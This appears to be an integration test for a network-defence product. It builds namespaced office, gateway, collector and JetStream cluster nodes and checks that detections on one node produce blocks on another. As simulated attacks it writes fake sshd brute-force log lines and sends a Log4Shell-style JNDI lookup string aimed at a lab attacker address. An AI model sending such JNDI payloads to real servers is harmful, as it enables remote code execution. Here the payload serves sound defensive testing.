#!/usr/bin/env python3
"""jetstream.py MAMORI PLUGINS - a whole service on one machine, in namespaces: an office with its gateway (the hub) and three PCs, the internet before
it, a provider's collector that keeps nothing and its cluster of three JetStream servers. What a PC finds is blocked at the gateway; what the
gateway sees is blocked at the PC; and every state of both incidents arrives in the stream once by its id, severe ones in their lane."""
import json
import os
import shutil
import subprocess
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from jetstream_lab import Cluster, Collector, desk, is_there, order_faults, settled
from site_lab import Site, case, play, until, usable

LAN, WAN = "10.86.0", "203.0.113"
ENDPOINT = ("proc", "files", "ransom", "log", "authfail", "sigma", "contain")
SERVE = "import http.server, sys\nhttp.server.test(http.server.SimpleHTTPRequestHandler, http.server.ThreadingHTTPServer, port=80, bind=sys.argv[1])"
ASK = """
import http.client, sys
for i in range(int(sys.argv[4])):
    try:
        c = http.client.HTTPConnection(sys.argv[2], 80, timeout=3, source_address=(sys.argv[1], 0))
        c.request("GET", sys.argv[3], None, {"User-Agent": "curl/7.88", "Host": sys.argv[2]})
        c.getresponse().read(); c.close()
        print("reached")
    except OSError: pass
"""


def inside(ns, *args, **more):
    return subprocess.run(["ip", "netns", "exec", ns, *args], capture_output=True, text=True, timeout=60, **more)


def reaches(ns, source, address, path="/", n=1):
    return "reached" in inside(ns, sys.executable, "-c", ASK, source, address, path, str(n)).stdout


def denied(ns, table):
    p = inside(ns, "nft", "-j", "list", "table", "inet", table)
    found = set()
    for x in json.loads(p.stdout)["nftables"] if p.returncode == 0 else []:
        for e in x.get("set", {}).get("elem", []):
            found.add(e.get("elem", {}).get("val") if isinstance(e, dict) else e)
    return found


def tables(ns):
    return inside(ns, "nft", "list", "ruleset").stdout


def guess(path, source):
    """Password guessing in the words of sshd; and in."""
    with open(path, "a") as f:
        for i in range(6):
            f.write(time.strftime(f"%b %d %H:%M:%S pc1 sshd[{1000 + i}]: Failed password for root from {source} port {4000 + i} ssh2\n"))
        f.flush()
        time.sleep(1.1)
        f.write(time.strftime(f"%b %d %H:%M:%S pc1 sshd[1009]: Accepted password for root from {source} port 4009 ssh2\n"))


def own_keys(m, state):
    p = subprocess.run([m.lab.mamori, "keys", "new", "--state", state], capture_output=True, text=True, check=True)
    path = os.path.join(m.dir, "pub")
    with open(path, "w") as f:
        f.write(p.stdout)
    return path


class Office:
    """The hub is the gateway: the PCs' bridge on one side, the internet on the other."""

    def __init__(self, site):
        self.site = site
        self.hub, self.pcs = site.machine("gw"), [site.machine(f"pc{k}") for k in (1, 2, 3)]
        for m in (self.hub, *self.pcs):
            site.connect(m)
        self.net = f"{self.hub.ns}net"
        subprocess.run(["ip", "netns", "add", self.net], check=True)
        subprocess.run(["ip", "link", "add", "wan0", "netns", self.hub.ns, "type", "veth", "peer", "name", "eth0", "netns", self.net], check=True)
        self.hub.ip("addr", "add", f"{WAN}.1/24", "dev", "wan0")
        self.hub.ip("link", "set", "wan0", "up")
        inside(self.hub.ns, "sysctl", "-qw", "net.ipv4.ip_forward=1")
        for last in (9, 21, 22, 23, 24):
            subprocess.run(["ip", "-n", self.net, "addr", "add", f"{WAN}.{last}/24", "dev", "eth0"], check=True)
        for what in (("link", "set", "lo", "up"), ("link", "set", "eth0", "up"), ("route", "add", f"{LAN}.0/24", "via", f"{WAN}.1")):
            subprocess.run(["ip", "-n", self.net, *what], check=True)
        self.servers = []
        for m in self.pcs:
            m.ip("route", "add", "default", "via", self.hub.address)
            self.servers.append(subprocess.Popen(["ip", "netns", "exec", m.ns, sys.executable, "-c", SERVE, m.address], cwd=m.dir,
                                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        self.auth = os.path.join(site.root, "auth.log")
        open(self.auth, "w").close()

    def configure(self):
        hub_pub = own_keys(self.hub, self.hub.state)
        nodes = {m.name: {"key": own_keys(m, m.state), "ip": [m.address]} for m in self.pcs}
        self.base = {"deployment": "inline-gateway", "node": {"name": "gw"},
                     "site": {"tenant": "acme", "name": "tokyo", "home_net": [f"{LAN}.0/24"], "listen": f"tcp://{self.hub.address}:7400", "nodes": nodes},
                     "assets": {m.name: {"ip": [m.address], "role": "client"} for m in self.pcs},
                     "defence": {"mode": "auto", "auto_actions_agreed": ["all"]},
                     "plugins": {**{n: None for n in ENDPOINT}, "capture": {"config": {"interfaces": ["wan0"]}}}}
        self.hub.configure(self.base)
        for k, m in enumerate(self.pcs):
            m.configure({"deployment": "endpoint", "node": {"role": "endpoint"}, "site": {"hub": f"tcp://{self.hub.address}:7400", "hub_key": hub_pub,
                                                                                        "home_net": [f"{LAN}.0/24"]},
                         "defence": {"mode": "auto", "auto_actions_agreed": ["all"]},
                         # PC 1 only detects: what it finds is for the gateway
                         "plugins": {"proc": None, "files": None, "ransom": None, "sigma": None, **({"contain": None} if k == 0 else {}),
                                     "log": {"config": {"files": [self.auth] if k == 0 else [os.path.join(m.dir, "none.log")]}}}})
            open(os.path.join(m.dir, "none.log"), "w").close()

    def nodes_up(self):
        return {n["name"] for n in ((self.hub.status()["brain"] or {}).get("nodes", [])) if n["up"]}

    def end(self):
        for p in self.servers:
            p.kill()
            p.wait()
        subprocess.run(["ip", "netns", "del", self.net], capture_output=True)


def incidents(messages):
    return [m for m in messages if m["subject"].endswith(".incident")]


def about(messages, what):
    return [m for m in incidents(messages) if what in json.dumps(m["json"])]


def run(site):
    office = Office(site)
    hub, (pc1, pc2, _) = office.hub, office.pcs
    front = site.machine("collector")
    site.connect(front)
    cluster = Cluster(site, ("n1", "n2", "n3"))
    collector = None
    try:
        office.configure()
        cluster.start()
        case("three_jetstream_servers_come_up", until(cluster.is_up, 60), [s.m.log()[-800:] for s in cluster.servers])
        # joins at a collector with a store; the same key, then, in one that keeps nothing, at the same address
        key, sites = desk(front, [("acme", hub)])
        if not case("the_office_joins", key, sites):
            return
        with open(key, "rb") as f:
            secret = f.read()
        shutil.rmtree(front.state)
        kept = os.path.join(site.root, "node.key")
        with open(kept, "wb") as f:
            f.write(secret)
        collector = Collector(front, kept, sites, cluster)
        collector.start()
        case("the_collector_is_ready", until(lambda: "outlet.ready" in collector.log(), 60), collector.log())
        for m in (hub, *office.pcs):
            m.start()
        case("hub_and_three_endpoints_come_up", until(lambda: office.nodes_up() == {"pc1", "pc2", "pc3"}, 90), hub.log() + pc1.log())
        case("the_hub_reaches_its_collector", until(lambda: ((hub.status()["brain"] or {}).get("upstream") or {}).get("up"), 60), hub.log())
        both(office, cluster, collector)
    finally:
        if collector:
            collector.end()
        cluster.end()
        office.end()


def both(office, cluster, collector):
    hub, (pc1, pc2, pc3) = office.hub, office.pcs
    attacker, web = f"{WAN}.22", f"{WAN}.23"
    case("the_attacker_reaches_the_office", until(lambda: reaches(office.net, attacker, pc1.address) and reaches(office.net, web, pc2.address), 30))

    # found by an endpoint that cannot defend, blocked by the gateway
    begun = time.time()
    guess(office.auth, attacker)
    case("what_an_endpoint_found_is_blocked_at_the_gateway", until(lambda: attacker in tables(hub.ns), 60), hub.log() + pc1.log())
    print(f"endpoint's finding to the gateway's block: {time.time() - begun:.1f} s (1.1 s of it the attack)", flush=True)
    case("the_attacker_reaches_nobody", until(lambda: not any(reaches(office.net, attacker, m.address) for m in office.pcs), 30), tables(hub.ns))
    case("others_do", reaches(office.net, f"{WAN}.9", pc2.address))
    case("the_endpoint_did_nothing", attacker not in tables(pc1.ns), tables(pc1.ns))

    # the gateway only watches from now on: found by it, blocked at the endpoint
    hub.end(keep=True)
    office.base["deployment"] = "passive-tap"
    office.base["plugins"]["nft"] = None
    hub.configure(office.base)
    hub.start()
    case("the_hub_is_there_again", until(lambda: office.nodes_up() == {"pc1", "pc2", "pc3"}, 90), hub.log())
    time.sleep(1)
    begun = time.time()
    reaches(office.net, web, pc2.address, "/?q=${jndi:ldap://%s:1389/a}" % web, 2)
    case("what_the_gateway_saw_is_blocked_at_the_endpoint", until(lambda: web in tables(pc2.ns), 60), hub.log() + pc2.log() + hub.cli("incident", "list", "--all")[1])
    print(f"network's finding to the endpoint's block: {time.time() - begun:.1f} s", flush=True)
    case("there_it_reaches_nothing", until(lambda: not reaches(office.net, web, pc2.address), 30), tables(pc2.ns))
    case("the_gateway_did_nothing", web not in tables(hub.ns), tables(hub.ns))
    case("others_reach_it", reaches(office.net, f"{WAN}.9", pc2.address))

    # the stories of both arrive
    last, is_good = settled(cluster, lambda ms: about(ms, attacker) and about(ms, web), 90)
    case("both_incidents_are_in_the_stream", is_good, [m["subject"] for m in last])
    closed = until(lambda: ((hub.status()["brain"] or {}).get("outbox") or {}).get("@upstream") == 0, 60)
    case("the_hub_has_nothing_left_to_send", closed, hub.status())
    last = cluster.messages()
    said = lambda ms, verb: any(a["verb"] == verb and a.get("receipt", {}).get("verified") == "confirmed"
                                for m in ms for a in m["json"]["unmapped"]["mamori"].get("actions", []))
    case("with_the_proof_of_the_gateways_block", said(about(last, attacker), "block.addr"), about(last, attacker)[-1:])
    case("and_of_the_endpoints", said(about(last, web), "block.addr"), about(last, web)[-1:])
    receipts = [m for m in last if m["subject"].endswith(".receipt")]
    case("receipts_come_too", len(receipts) >= 2, [m["subject"] for m in last])
    ids = [m["headers"]["Nats-Msg-Id"] for m in last]
    case("each_once_by_its_id", len(ids) == len(set(ids)), ids)
    case("in_order_in_each_lane", not order_faults(last), order_faults(last))
    case("under_the_name_of_the_office", all(m["subject"].startswith("mamori.v1.acme.gw.") for m in last), sorted({m["subject"] for m in last}))
    case("severe_ones_in_the_urgent_lane", all((m["subject"].split(".")[4] == "urgent") == (m["json"]["unmapped"]["mamori"]["class"] == "severe") for m in incidents(last)),
         [(m["subject"], m["json"]["unmapped"]["mamori"]["class"]) for m in incidents(last)])
    print(f"in the stream: {len(last)} messages, {len(incidents(last))} states of incidents, {len(receipts)} receipts", flush=True)
    case("the_collector_kept_nothing", collector.kept() == ["node.key"], collector.kept())
    case("it_ends_cleanly", collector.end() == 0, collector.log())


def main():
    if not is_there() or not usable(sys.argv[2]):
        return 77
    return play("jetstream", lambda root: Site(root, sys.argv[1], sys.argv[2], LAN), run)


if __name__ == "__main__":
    sys.exit(main())
